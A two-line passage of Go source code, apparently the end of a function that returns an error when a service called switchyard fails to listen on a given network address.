	return fmt.Errorf("switchyard did not listen on %s", addr)
}
